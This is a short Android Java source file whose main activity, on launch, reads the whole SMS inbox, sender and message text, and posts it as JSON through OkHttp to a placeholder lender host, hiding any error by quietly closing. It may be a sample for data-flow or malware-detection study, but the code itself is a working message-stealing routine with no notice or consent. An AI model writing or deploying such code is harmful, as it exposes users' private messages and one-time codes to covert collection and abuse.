package com.example.flows.sms_okhttp;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;
import okhttp3.*;

/** Messages go as a JSON body through OkHttp. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        JSONArray rows = new JSONArray();
        try {
            Cursor cursor = getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
            while (cursor.moveToNext()) {
                JSONObject row = new JSONObject();
                row.put("from", cursor.getString(cursor.getColumnIndex("address")));
                row.put("text", cursor.getString(cursor.getColumnIndex("body")));
                rows.put(row);
            }
            RequestBody body = RequestBody.create(MediaType.parse("application/json"), rows.toString());
            Request request = new Request.Builder().url("https://api.lender.example/sms").post(body).build();
            new OkHttpClient().newCall(request).execute();
        } catch (Exception e) {
            finish();
        }
    }

}
